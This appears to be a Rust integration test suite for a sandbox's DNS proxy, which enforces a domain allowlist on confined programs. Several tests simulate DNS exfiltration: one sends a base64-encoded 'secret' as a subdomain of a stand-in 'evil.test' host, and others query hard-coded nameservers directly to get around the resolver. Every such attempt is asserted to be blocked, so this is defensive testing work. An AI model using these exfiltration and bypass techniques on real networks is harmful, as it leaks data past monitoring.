//! DNS end to end: the kernel redirects every port-53 query of a session to its DNS proxy,
//! which answers only the names the policy allows. Real kernel, real programs, real resolvers
//! (glibc's getaddrinfo through python3, Node's dns.lookup/dns.resolve4 and `dig` when they
//! are installed).
//!
//! Network rule: the only upstream nameserver is a server this file starts on 127.0.0.1
//! (counting every query it receives, by name and transport), passed with `--dns-server`;
//! hard-coded nameservers are 127.0.0.77 and ::1 port 53, where nothing listens. Listeners
//! the programs connect to are on 127.0.0.2 (allowed when a name resolves to it) and
//! 127.0.0.3 (never named). `allow_loopback: false` throughout, so nothing on loopback is
//! reachable unless the proxy's answer made it so. Needs root.

use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, TcpListener, UdpSocket};
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use hickory_proto::op::{Message, MessageType, ResponseCode};
use hickory_proto::rr::rdata::{A, AAAA, CNAME};
use hickory_proto::rr::{Name, RData, Record, RecordType};
use serde_json::Value;

const BOUNDARY: &str = env!("CARGO_BIN_EXE_boundary");

/// What the test nameserver answers for a name.
#[derive(Clone)]
enum Zone {
    /// A records with this TTL.
    A(Vec<Ipv4Addr>, u32),
    /// A CNAME to the target, and the target's A record (as a recursive resolver would).
    Cname(String, Ipv4Addr),
    /// AAAA records (TTL 60); no A record.
    Aaaa(Vec<Ipv6Addr>),
}

/// The only upstream of these tests: answers from its zone; any other name under
/// `allowed.test` resolves to 127.0.0.2 (TTL 60); everything else is NXDOMAIN. UDP answers
/// over 512 bytes are truncated (TC), TCP answers are whole.
struct Upstream {
    addr: SocketAddr,
    zone: Arc<Mutex<HashMap<String, Zone>>>,
    /// (name, "udp"|"tcp") → queries received.
    seen: Arc<Mutex<HashMap<(String, &'static str), usize>>>,
}

impl Upstream {
    fn start() -> Upstream {
        let zone: Arc<Mutex<HashMap<String, Zone>>> = Arc::default();
        let seen: Arc<Mutex<HashMap<(String, &'static str), usize>>> = Arc::default();
        for _ in 0..50 {
            let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
            let addr = udp.local_addr().unwrap();
            let Ok(tcp) = TcpListener::bind(addr) else {
                continue;
            };
            let (z, s) = (zone.clone(), seen.clone());
            thread::spawn(move || {
                let mut buf = [0u8; 4096];
                while let Ok((n, from)) = udp.recv_from(&mut buf) {
                    if let Some(reply) = respond(&buf[..n], &z, &s, "udp") {
                        let _ = udp.send_to(&reply, from);
                    }
                }
            });
            let (z, s) = (zone.clone(), seen.clone());
            thread::spawn(move || {
                for stream in tcp.incoming() {
                    let Ok(mut stream) = stream else { continue };
                    let (z, s) = (z.clone(), s.clone());
                    thread::spawn(move || loop {
                        let mut len = [0u8; 2];
                        if stream.read_exact(&mut len).is_err() {
                            return;
                        }
                        let mut q = vec![0u8; u16::from_be_bytes(len) as usize];
                        if stream.read_exact(&mut q).is_err() {
                            return;
                        }
                        let Some(reply) = respond(&q, &z, &s, "tcp") else {
                            return;
                        };
                        let mut out = (reply.len() as u16).to_be_bytes().to_vec();
                        out.extend(reply);
                        if stream.write_all(&out).is_err() {
                            return;
                        }
                    });
                }
            });
            return Upstream { addr, zone, seen };
        }
        panic!("no free port for the test nameserver");
    }

    fn set(&self, name: &str, zone: Zone) {
        self.zone.lock().unwrap().insert(name.into(), zone);
    }

    /// Queries received for `name` (both transports).
    fn count(&self, name: &str) -> usize {
        self.seen
            .lock()
            .unwrap()
            .iter()
            .filter(|((n, _), _)| n == name)
            .map(|(_, c)| c)
            .sum()
    }

    fn count_via(&self, name: &str, transport: &str) -> usize {
        self.seen
            .lock()
            .unwrap()
            .get(&(name.to_string(), transport))
            .copied()
            .unwrap_or(0)
    }

    /// Every name asked, for messages.
    fn names(&self) -> Vec<String> {
        let mut v: Vec<String> = self
            .seen
            .lock()
            .unwrap()
            .keys()
            .map(|(n, _)| n.clone())
            .collect();
        v.sort();
        v.dedup();
        v
    }
}

fn respond(
    query: &[u8],
    zone: &Mutex<HashMap<String, Zone>>,
    seen: &Mutex<HashMap<(String, &'static str), usize>>,
    transport: &'static str,
) -> Option<Vec<u8>> {
    let q = Message::from_vec(query).ok()?;
    let question = q.queries.first()?.clone();
    let name = question
        .name()
        .to_ascii()
        .trim_end_matches('.')
        .to_ascii_lowercase();
    *seen
        .lock()
        .unwrap()
        .entry((name.clone(), transport))
        .or_default() += 1;
    let mut r = q.clone();
    r.metadata.message_type = MessageType::Response;
    r.metadata.recursion_available = true;
    r.answers.clear();
    r.additionals.clear();
    let owner = question.name().clone();
    let entry = zone.lock().unwrap().get(&name).cloned().or_else(|| {
        name.ends_with(".allowed.test")
            .then(|| Zone::A(vec![Ipv4Addr::new(127, 0, 0, 2)], 60))
    });
    match entry {
        None => r.metadata.response_code = ResponseCode::NXDomain,
        Some(Zone::Aaaa(ips)) => {
            if question.query_type() == RecordType::AAAA {
                for ip in ips {
                    r.add_answer(Record::from_rdata(owner.clone(), 60, RData::AAAA(AAAA(ip))));
                }
            }
        }
        Some(_) if question.query_type() != RecordType::A => {}
        Some(Zone::A(ips, ttl)) => {
            for ip in ips {
                r.add_answer(Record::from_rdata(owner.clone(), ttl, RData::A(A(ip))));
            }
        }
        Some(Zone::Cname(target, ip)) => {
            let target = Name::from_ascii(format!("{target}.")).unwrap();
            r.add_answer(Record::from_rdata(
                owner.clone(),
                60,
                RData::CNAME(CNAME(target.clone())),
            ));
            r.add_answer(Record::from_rdata(target, 60, RData::A(A(ip))));
        }
    }
    let bytes = r.to_vec().ok()?;
    if transport == "udp" && bytes.len() > 512 {
        return r.truncate().to_vec().ok();
    }
    Some(bytes)
}

/// A TCP listener on 127.0.0.2 and on 127.0.0.3, same port, that answers "ok".
fn listeners() -> u16 {
    for _ in 0..50 {
        let a = TcpListener::bind("127.0.0.2:0").unwrap();
        let port = a.local_addr().unwrap().port();
        let Ok(b) = TcpListener::bind(("127.0.0.3", port)) else {
            continue;
        };
        for l in [a, b] {
            thread::spawn(move || {
                for mut s in l.incoming().flatten() {
                    let _ = s.write_all(b"ok");
                }
            });
        }
        return port;
    }
    panic!("no free port on 127.0.0.2 and 127.0.0.3");
}

/// A test directory: config, a hosts file without the test names, events.
struct Case {
    dir: tempfile::TempDir,
    upstream: Upstream,
}

impl Case {
    fn new(config: &str) -> Case {
        let dir = tempfile::tempdir().unwrap();
        std::fs::set_permissions(
            dir.path(),
            std::os::unix::fs::PermissionsExt::from_mode(0o1777),
        )
        .unwrap();
        std::fs::write(dir.path().join("config.yaml"), config).unwrap();
        std::fs::write(dir.path().join("hosts"), "127.0.0.1 localhost\n").unwrap();
        Case {
            dir,
            upstream: Upstream::start(),
        }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn command(&self, cmd: &[&str]) -> Command {
        let mut c = Command::new(BOUNDARY);
        c.arg("run")
            .arg("--config")
            .arg(self.path("config.yaml"))
            .arg("--hosts-file")
            .arg(self.path("hosts"))
            .arg("--events")
            .arg(self.path("events.jsonl"))
            .arg("--dns-server")
            .arg(self.upstream.addr.to_string())
            .args(["--user", "nobody", "--"])
            .args(cmd)
            .current_dir(self.dir.path())
            .stdin(Stdio::null());
        c
    }

    fn run(&self, cmd: &[&str]) -> Output {
        self.command(cmd).output().unwrap()
    }

    fn python(&self, script: &str) -> Output {
        self.run(&["python3", "-c", script])
    }

    fn events(&self) -> Vec<Value> {
        std::fs::read_to_string(self.path("events.jsonl"))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    fn dns_events(&self, name: &str) -> Vec<Value> {
        self.events()
            .into_iter()
            .filter(|e| e["event.name"] == "boundary.dns" && e["dns.question.name"] == name)
            .collect()
    }
}

fn policy(rules: &[&str], extra: &str) -> String {
    let mut s = String::from("name: dns-test\nallow_loopback: false\nallowlist:\n");
    for r in rules {
        s.push_str(&format!("  - \"{r}\"\n"));
    }
    s.push_str(extra);
    s
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn text(out: &Output) -> String {
    format!(
        "status: {:?}\nstdout: {}\nstderr: {}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// A name nobody could list in advance.
fn fresh(label: &str) -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    format!("{label}-{nanos:x}.allowed.test")
}

/// Python: resolve `name` with getaddrinfo (glibc), print the addresses or `ERR <errno>`.
fn resolve_py(name: &str) -> String {
    format!(
        "import socket\ntry:\n    print(sorted({{a[4][0] for a in socket.getaddrinfo('{name}', 80, socket.AF_INET, socket.SOCK_STREAM)}}))\nexcept socket.gaierror as e:\n    print('ERR', e.errno)\n"
    )
}

/// Python: connect to ip:port, print `connected` or `refused <errno>`.
fn connect_py(ip: &str, port: u16) -> String {
    format!(
        "s = socket.socket()\ns.settimeout(3)\ntry:\n    s.connect(('{ip}', {port})); print('connected', s.recv(2).decode())\nexcept OSError as e:\n    print('refused', e.errno)\ns.close()\n"
    )
}

/// Python: a raw DNS query for an A record (hand-assembled in the *test program*, the
/// confined side: it stands for any program with its own DNS code).
const RAW_QUERY_PY: &str = r#"
import socket, struct, random
def query(name, qid=None):
    qid = qid or random.randint(1, 65535)
    q = struct.pack('>HHHHHH', qid, 0x0100, 1, 0, 0, 0)
    for label in name.split('.'):
        q += bytes([len(label)]) + label.encode()
    return q + b'\x00' + struct.pack('>HH', 1, 1)
def rcode(reply):
    return reply[3] & 0x0f
def answers(reply):
    return struct.unpack('>H', reply[6:8])[0]
def udp(server, name, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(query(name), server)
    reply, src = s.recvfrom(4096)
    return rcode(reply), answers(reply), src[:2]
def tcp(server, name):
    s = socket.create_connection(server, timeout=3)
    q = query(name)
    s.sendall(struct.pack('>H', len(q)) + q)
    n = struct.unpack('>H', s.recv(2))[0]
    reply = b''
    while len(reply) < n:
        reply += s.recv(n - len(reply))
    return rcode(reply), answers(reply), s.getpeername()[:2]
"#;

#[test]
fn forbidden_name_never_reaches_the_upstream_and_gets_nxdomain_with_a_deny_event() {
    let case = Case::new(&policy(&["domain=*.allowed.test"], ""));
    let out = case.python(&resolve_py("secret-data.evil.test"));
    assert!(out.status.success(), "{}", text(&out));
    // EAI_NONAME (-2): NXDOMAIN, not a timeout (EAI_AGAIN, -3).
    assert_eq!(stdout(&out).trim(), "ERR -2", "{}", text(&out));
    assert!(
        case.upstream.names().iter().all(|n| !n.contains("evil")),
        "a forbidden name reached the upstream: {:?}",
        case.upstream.names()
    );
    let events = case.dns_events("secret-data.evil.test");
    let deny = events
        .iter()
        .find(|e| e["event.action"] == "deny")
        .unwrap_or_else(|| panic!("no deny event: {:?}", case.events()));
    assert_eq!(deny["dns.question.type"], "A");
    assert_eq!(deny["boundary.dns.reason"], "policy");
    assert!(deny["session.id"].as_str().is_some_and(|s| !s.is_empty()));
    assert_eq!(deny["process.executable.name"], "python3", "{deny}");
}

#[test]
fn allowed_wildcard_subdomain_resolves_through_glibc_and_connects_at_once() {
    let port = listeners();
    let case = Case::new(&policy(
        &[&format!("domain=*.allowed.test port={port}")],
        "",
    ));
    let name = fresh("any");
    let script = format!(
        "{}{}{}",
        resolve_py(&name),
        connect_py("127.0.0.2", port),
        // Never named by an answer: loopback is not allowed as such.
        connect_py("127.0.0.3", port),
    );
    let out = case.python(&script);
    assert!(out.status.success(), "{}", text(&out));
    let lines: Vec<String> = stdout(&out).lines().map(String::from).collect();
    assert_eq!(lines[0], "['127.0.0.2']", "{}", text(&out));
    assert_eq!(lines[1], "connected ok", "{}", text(&out));
    assert_eq!(lines[2], "refused 1", "{}", text(&out));
    assert_eq!(case.upstream.count(&name), 1);
    let allow = case.dns_events(&name);
    assert!(
        allow.iter().any(|e| e["event.action"] == "allow"
            && e["dns.resolved_ip"] == serde_json::json!(["127.0.0.2"])),
        "{:?}",
        case.events()
    );
    // The connection event names the domain this session resolved.
    let decision = case
        .events()
        .into_iter()
        .find(|e| {
            e["event.name"] == "boundary.decision"
                && e["event.action"] == "allow"
                && e["destination.address"] == "127.0.0.2"
        })
        .unwrap_or_else(|| panic!("no allow decision: {:?}", case.events()));
    assert_eq!(
        decision["boundary.destination.domains"],
        serde_json::json!([name])
    );
}

#[test]
fn an_aaaa_answer_opens_its_ipv6_address() {
    let Ok(listener) = TcpListener::bind("[::1]:0") else {
        eprintln!("no ::1 on this host: skipped");
        return;
    };
    let port = listener.local_addr().unwrap().port();
    thread::spawn(move || {
        for mut s in listener.incoming().flatten() {
            let _ = s.write_all(b"ok");
        }
    });
    let case = Case::new(&policy(
        &[&format!("domain=*.allowed.test port={port}")],
        "",
    ));
    case.upstream
        .set("six.allowed.test", Zone::Aaaa(vec![Ipv6Addr::LOCALHOST]));
    // Refused before the answer (AAAA through glibc), allowed right after it.
    let out = case.python(&format!(
        "import socket\n{}print(sorted({{a[4][0] for a in socket.getaddrinfo('six.allowed.test', {port}, socket.AF_INET6, socket.SOCK_STREAM)}}))\n{}",
        connect_py_v6(port),
        connect_py_v6(port)
    ));
    assert_eq!(
        stdout(&out).lines().collect::<Vec<_>>(),
        ["refused 1", "['::1']", "connected ok"],
        "{}",
        text(&out)
    );
}

fn connect_py_v6(port: u16) -> String {
    format!(
        "s = socket.socket(socket.AF_INET6)\ns.settimeout(3)\ntry:\n    s.connect(('::1', {port})); print('connected', s.recv(2).decode())\nexcept OSError as e:\n    print('refused', e.errno)\ns.close()\n"
    )
}

#[test]
fn cname_to_a_forbidden_name_is_refused() {
    let port = listeners();
    let case = Case::new(&policy(
        &[&format!("domain=*.allowed.test port={port}")],
        "",
    ));
    case.upstream.set(
        "alias.allowed.test",
        Zone::Cname("target.evil.test".into(), Ipv4Addr::new(127, 0, 0, 2)),
    );
    let out = case.python(&format!(
        "{}{}",
        resolve_py("alias.allowed.test"),
        connect_py("127.0.0.2", port)
    ));
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(
        stdout(&out).lines().collect::<Vec<_>>(),
        ["ERR -2", "refused 1"],
        "{}",
        text(&out)
    );
    let deny = case.dns_events("alias.allowed.test");
    assert!(
        deny.iter().any(|e| e["event.action"] == "deny"
            && e["boundary.dns.reason"] == "cname"
            && e["boundary.dns.refused_name"] == "target.evil.test"),
        "{:?}",
        case.events()
    );
}

#[test]
fn a_cname_chain_of_allowed_names_resolves() {
    let case = Case::new(&policy(
        &["domain=*.allowed.test", "domain=cdn.other.test"],
        "",
    ));
    case.upstream.set(
        "www.allowed.test",
        Zone::Cname("cdn.other.test".into(), Ipv4Addr::new(127, 0, 0, 2)),
    );
    let out = case.python(&resolve_py("www.allowed.test"));
    assert_eq!(stdout(&out).trim(), "['127.0.0.2']", "{}", text(&out));
}

#[test]
fn a_hard_coded_nameserver_is_redirected_to_the_proxy_and_replies_look_like_it() {
    let case = Case::new(&policy(&["domain=*.allowed.test"], ""));
    let script = format!(
        "{RAW_QUERY_PY}
print(udp(('127.0.0.77', 53), 'ok.allowed.test'))
print(udp(('127.0.0.77', 53), 'exfil-c2VjcmV0.evil.test'))
print(udp(('::ffff:127.0.0.77', 53), 'ok.allowed.test', socket.AF_INET6))
try:
    print(udp(('::1', 53), 'ok.allowed.test', socket.AF_INET6))
except OSError as e:
    print('v6', e)
"
    );
    let out = case.python(&script);
    assert!(out.status.success(), "{}", text(&out));
    let lines: Vec<String> = stdout(&out).lines().map(String::from).collect();
    assert_eq!(lines[0], "(0, 1, ('127.0.0.77', 53))", "{}", text(&out));
    assert_eq!(lines[1], "(3, 0, ('127.0.0.77', 53))", "{}", text(&out));
    assert_eq!(
        lines[2],
        "(0, 1, ('::ffff:127.0.0.77', 53))",
        "{}",
        text(&out)
    );
    assert_eq!(lines[3], "(0, 1, ('::1', 53))", "{}", text(&out));
    assert_eq!(case.upstream.count("exfil-c2vjcmv0.evil.test"), 0);
    assert!(case.upstream.names().iter().all(|n| !n.contains("evil")));
    assert_eq!(case.upstream.count("ok.allowed.test"), 3);
}

#[test]
fn tcp_queries_go_to_the_proxy_too() {
    let case = Case::new(&policy(&["domain=*.allowed.test"], ""));
    let script = format!(
        "{RAW_QUERY_PY}
print(tcp(('127.0.0.77', 53), 'ok.allowed.test'))
print(tcp(('127.0.0.77', 53), 'secret.evil.test'))
"
    );
    let out = case.python(&script);
    assert!(out.status.success(), "{}", text(&out));
    let lines: Vec<String> = stdout(&out).lines().map(String::from).collect();
    // getpeername is put back to the nameserver asked, too.
    assert_eq!(lines[0], "(0, 1, ('127.0.0.77', 53))", "{}", text(&out));
    assert_eq!(lines[1], "(3, 0, ('127.0.0.77', 53))", "{}", text(&out));
    assert_eq!(case.upstream.count_via("ok.allowed.test", "tcp"), 1);
    assert_eq!(case.upstream.count("secret.evil.test"), 0);
    let deny = case.dns_events("secret.evil.test");
    assert!(
        deny.iter()
            .any(|e| e["event.action"] == "deny" && e["network.transport"] == "tcp"),
        "{:?}",
        case.events()
    );
}

#[test]
fn a_truncated_answer_is_fetched_over_tcp_and_every_address_installed() {
    let case = Case::new(&policy(&["domain=*.allowed.test"], ""));
    let ips: Vec<Ipv4Addr> = (1..=60).map(|i| Ipv4Addr::new(127, 0, 1, i)).collect();
    case.upstream.set("big.allowed.test", Zone::A(ips, 60));
    let out = case.python(
        "import socket\nprint(len({a[4][0] for a in socket.getaddrinfo('big.allowed.test', 80, socket.AF_INET, socket.SOCK_STREAM)}))\n",
    );
    assert_eq!(stdout(&out).trim(), "60", "{}", text(&out));
    assert!(case.upstream.count_via("big.allowed.test", "tcp") >= 1);
    let allow = case.dns_events("big.allowed.test");
    let allow = allow
        .iter()
        .find(|e| e["event.action"] == "allow")
        .unwrap_or_else(|| panic!("{:?}", case.events()));
    assert_eq!(allow["dns.resolved_ip"].as_array().unwrap().len(), 60);
}

#[test]
fn answers_stay_allowed_for_their_ttl_and_grace_period_then_are_denied() {
    let port = listeners();
    let case = Case::new(&policy(
        &[&format!("domain=*.allowed.test port={port}")],
        "dns:\n  min_ttl: 1s\n  grace_period: 2s\n",
    ));
    case.upstream.set(
        "short.allowed.test",
        Zone::A(vec![Ipv4Addr::new(127, 0, 0, 2)], 1),
    );
    let script = format!(
        "{}{}import time\ntime.sleep(1.5)\n{}time.sleep(3.5)\n{}",
        resolve_py("short.allowed.test"),
        connect_py("127.0.0.2", port),
        // TTL (1 s) over, grace period (2 s) not yet: still allowed.
        connect_py("127.0.0.2", port),
        // Both over (and the 300 ms policy polls): gone.
        connect_py("127.0.0.2", port),
    );
    let out = case.python(&script);
    assert_eq!(
        stdout(&out).lines().collect::<Vec<_>>(),
        ["['127.0.0.2']", "connected ok", "connected ok", "refused 1"],
        "{}",
        text(&out)
    );
}

#[test]
fn two_sessions_with_different_policies_asking_the_same_name_get_different_answers() {
    let port = listeners();
    let a = Case::new(&policy(
        &[&format!("domain=*.allowed.test port={port}")],
        "",
    ));
    let b = Case::new(&policy(&["domain=only.other.test"], ""));
    let name = fresh("shared");
    // a resolves and holds its entry; b asks the same name and tries the address meanwhile.
    let marker = a.path("a-connected");
    let mut first = a
        .command(&[
            "python3",
            "-c",
            &format!(
                "{}{}open('{}', 'w').close()\nimport time\ntime.sleep(3)\n",
                resolve_py(&name),
                connect_py("127.0.0.2", port),
                marker.display()
            ),
        ])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    for _ in 0..500 {
        if marker.exists() {
            break;
        }
        thread::sleep(Duration::from_millis(20));
    }
    assert!(marker.exists(), "session a never connected");
    let second = b.python(&format!(
        "{}{}",
        resolve_py(&name),
        connect_py("127.0.0.2", port)
    ));
    let mut first_out = String::new();
    first
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut first_out)
        .unwrap();
    first.wait().unwrap();
    assert_eq!(
        first_out.lines().collect::<Vec<_>>(),
        ["['127.0.0.2']", "connected ok"]
    );
    assert_eq!(
        stdout(&second).lines().collect::<Vec<_>>(),
        ["ERR -2", "refused 1"],
        "{}",
        text(&second)
    );
    assert_eq!(a.upstream.count(&name), 1);
    assert_eq!(b.upstream.count(&name), 0);
    assert!(b
        .dns_events(&name)
        .iter()
        .any(|e| e["event.action"] == "deny"));
}

#[test]
fn audit_mode_forwards_everything_and_reports_would_deny() {
    let case = Case::new(&policy(&["domain=*.allowed.test"], "mode: audit\n"));
    case.upstream.set(
        "watched.evil.test",
        Zone::A(vec![Ipv4Addr::new(127, 0, 0, 3)], 60),
    );
    let out = case.python(&resolve_py("watched.evil.test"));
    assert_eq!(stdout(&out).trim(), "['127.0.0.3']", "{}", text(&out));
    assert_eq!(case.upstream.count("watched.evil.test"), 1);
    assert!(
        case.dns_events("watched.evil.test")
            .iter()
            .any(|e| e["event.action"] == "would_deny"),
        "{:?}",
        case.events()
    );
}

#[test]
fn refuse_with_refused_answers_refused() {
    let case = Case::new(&policy(
        &["domain=*.allowed.test"],
        "dns:\n  refuse_with: refused\n",
    ));
    let out = case.python(&format!(
        "{RAW_QUERY_PY}\nprint(udp(('127.0.0.77', 53), 'no.evil.test'))\n"
    ));
    assert_eq!(
        stdout(&out).trim(),
        "(5, 0, ('127.0.0.77', 53))",
        "{}",
        text(&out)
    );
}

#[test]
fn node_dns_lookup_and_resolve4_go_through_the_proxy() {
    if Command::new("node").arg("--version").output().is_err() {
        eprintln!("node is not installed: skipped");
        return;
    }
    let case = Case::new(&policy(&["domain=*.allowed.test"], ""));
    let name = fresh("node");
    let script = format!(
        "const dns = require('dns');
dns.lookup('{name}', {{family: 4}}, (e, a) => {{
  console.log('lookup', e ? e.code : a);
  dns.resolve4('{name}', (e, a) => {{
    console.log('resolve4', e ? e.code : a.join(','));
    dns.resolve4('nope.evil.test', (e, a) => console.log('evil', e ? e.code : a));
  }});
}});"
    );
    let out = case.run(&["node", "-e", &script]);
    assert_eq!(
        stdout(&out).lines().collect::<Vec<_>>(),
        ["lookup 127.0.0.2", "resolve4 127.0.0.2", "evil ENOTFOUND"],
        "{}",
        text(&out)
    );
    assert_eq!(case.upstream.count("nope.evil.test"), 0);
}

#[test]
fn dig_at_a_hard_coded_server_is_answered_by_the_proxy() {
    if Command::new("dig").arg("-v").output().is_err() {
        eprintln!("dig is not installed: skipped");
        return;
    }
    let case = Case::new(&policy(&["domain=*.allowed.test"], ""));
    let out = case.run(&[
        "sh",
        "-c",
        "dig +short +tries=1 +time=3 @127.0.0.77 ok.allowed.test; \
         dig +tries=1 +time=3 @127.0.0.77 bad.evil.test | grep -o 'status: [A-Z]*'; \
         dig +tcp +short +tries=1 +time=3 @127.0.0.77 tcp.allowed.test",
    ]);
    assert_eq!(
        stdout(&out).lines().collect::<Vec<_>>(),
        ["127.0.0.2", "status: NXDOMAIN", "127.0.0.2"],
        "{}",
        text(&out)
    );
    assert_eq!(case.upstream.count("bad.evil.test"), 0);
    assert_eq!(case.upstream.count_via("tcp.allowed.test", "tcp"), 1);
}

/// `boundary check` agrees with run about port 53.
#[test]
fn check_says_port_53_goes_to_the_proxy() {
    let case = Case::new(&policy(&["domain=*.allowed.test"], ""));
    let out = Command::new(BOUNDARY)
        .args(["check", "--config"])
        .arg(case.path("config.yaml"))
        .arg("--hosts-file")
        .arg(case.path("hosts"))
        .arg("--dns-server")
        .arg(case.upstream.addr.to_string())
        .arg("--udp")
        .arg("8.8.8.8:53")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(stdout(&out).contains("DNS proxy"), "{}", text(&out));
}

/// A root `boundary agent` with its own socket, policy, events file and cgroup root, whose
/// only upstream nameserver is the test's.
struct Agent {
    case: Case,
    child: std::process::Child,
    cgroup_root: PathBuf,
}

impl Agent {
    fn start(config: &str) -> Agent {
        let case = Case::new(config);
        let cgroup_root = boundary_agent::cgroup::cgroup2_root()
            .unwrap()
            .join(format!("boundary-dns-test-{}", std::process::id()));
        std::fs::create_dir_all(&cgroup_root).unwrap();
        let child = Agent::spawn(&case, &cgroup_root);
        let agent = Agent {
            case,
            child,
            cgroup_root,
        };
        agent.wait_listening();
        agent
    }

    fn spawn(case: &Case, cgroup_root: &std::path::Path) -> std::process::Child {
        Command::new(BOUNDARY)
            .arg("agent")
            .arg("--cgroup-root")
            .arg(cgroup_root)
            .arg("--config")
            .arg(case.path("config.yaml"))
            .arg("--socket")
            .arg(case.path("agent.sock"))
            .arg("--hosts-file")
            .arg(case.path("hosts"))
            .arg("--dns-server")
            .arg(case.upstream.addr.to_string())
            .arg("--events")
            .arg(case.path("events.jsonl"))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap()
    }

    fn wait_listening(&self) {
        for _ in 0..1000 {
            if std::os::unix::net::UnixStream::connect(self.case.path("agent.sock")).is_ok() {
                return;
            }
            thread::sleep(Duration::from_millis(20));
        }
        panic!("the agent did not start listening");
    }

    /// `boundary run` as `nobody` through the agent.
    fn run_as_nobody(&self, session: &str, script: &str) -> Command {
        let mut c = Command::new("setpriv");
        c.args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "--reset-env",
        ])
        .arg(BOUNDARY)
        .arg("run")
        .arg("--socket")
        .arg(self.case.path("agent.sock"))
        .args(["--session-id", session, "--", "python3", "-c", script])
        .current_dir(self.case.dir.path())
        .stdin(Stdio::null());
        c
    }

    fn wait_event(&self, pred: impl Fn(&Value) -> bool) {
        for _ in 0..500 {
            if self.case.events().iter().any(&pred) {
                return;
            }
            thread::sleep(Duration::from_millis(20));
        }
        panic!("event not seen: {:#?}", self.case.events());
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(self.child.id() as i32),
            nix::sys::signal::Signal::SIGTERM,
        );
        let _ = self.child.wait();
        let parent = self.cgroup_root.join("boundary");
        for _ in 0..250 {
            // Sessions end with their commands; one the agent claimed but never started is
            // removed here once the agent is gone.
            let sessions: Vec<String> = std::fs::read_dir(&parent)
                .map(|d| {
                    d.flatten()
                        .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
                        .filter_map(|e| e.file_name().to_str().map(String::from))
                        .collect()
                })
                .unwrap_or_default();
            for id in &sessions {
                boundary_agent::session::remove_unused(&self.cgroup_root, id);
            }
            if sessions.is_empty() {
                break;
            }
            thread::sleep(Duration::from_millis(20));
        }
        let _ = std::fs::remove_dir(&parent);
        let _ = std::fs::remove_dir(&self.cgroup_root);
    }
}

fn wait_for_file(path: &std::path::Path) {
    for _ in 0..1000 {
        if path.exists() {
            return;
        }
        thread::sleep(Duration::from_millis(20));
    }
    panic!("{} never appeared", path.display());
}

#[test]
fn through_the_agent_dns_is_proxied_fails_closed_while_the_agent_is_dead_and_resumes_on_adoption() {
    let mut agent = Agent::start(&policy(&["domain=*.allowed.test"], ""));
    let id = format!("dns-adopt-{}", std::process::id());
    let (ready, go, ready2, go2) = (
        agent.case.path("ready"),
        agent.case.path("go"),
        agent.case.path("ready2"),
        agent.case.path("go2"),
    );
    let script = format!(
        "{RAW_QUERY_PY}
import os, time
def ask(name):
    try:
        print(udp(('127.0.0.77', 53), name), flush=True)
    except OSError:
        print('no answer', flush=True)
def wait(path):
    while not os.path.exists(path): time.sleep(0.02)
ask('one.allowed.test')
ask('leak.evil.test')
open('{ready}', 'w').close()
wait('{go}')
ask('dead.allowed.test')
open('{ready2}', 'w').close()
wait('{go2}')
ask('back.allowed.test')
",
        ready = ready.display(),
        go = go.display(),
        ready2 = ready2.display(),
        go2 = go2.display(),
    );
    let session = agent
        .run_as_nobody(&id, &script)
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap();
    wait_for_file(&ready);
    // No chance to clean up: port 53 keeps going to the dead proxy's address.
    agent.child.kill().unwrap();
    agent.child.wait().unwrap();
    std::fs::write(&go, "").unwrap();
    wait_for_file(&ready2);
    agent.child = Agent::spawn(&agent.case, &agent.cgroup_root);
    agent.wait_listening();
    agent.wait_event(|e| {
        e["event.name"] == "boundary.session.adopted" && e["session.id"] == id.as_str()
    });
    std::fs::write(&go2, "").unwrap();
    let out = session.wait_with_output().unwrap();
    assert_eq!(
        stdout(&out).lines().collect::<Vec<_>>(),
        [
            "(0, 1, ('127.0.0.77', 53))",
            "(3, 0, ('127.0.0.77', 53))",
            "no answer",
            "(0, 1, ('127.0.0.77', 53))"
        ],
        "{}",
        text(&out)
    );
    assert_eq!(agent.case.upstream.count("one.allowed.test"), 1);
    assert_eq!(agent.case.upstream.count("leak.evil.test"), 0);
    assert_eq!(agent.case.upstream.count("dead.allowed.test"), 0);
    assert_eq!(agent.case.upstream.count("back.allowed.test"), 1);
    assert!(agent
        .case
        .events()
        .iter()
        .any(|e| e["event.name"] == "boundary.dns"
            && e["dns.question.name"] == "leak.evil.test"
            && e["event.action"] == "deny"
            && e["session.id"] == id.as_str()));
}
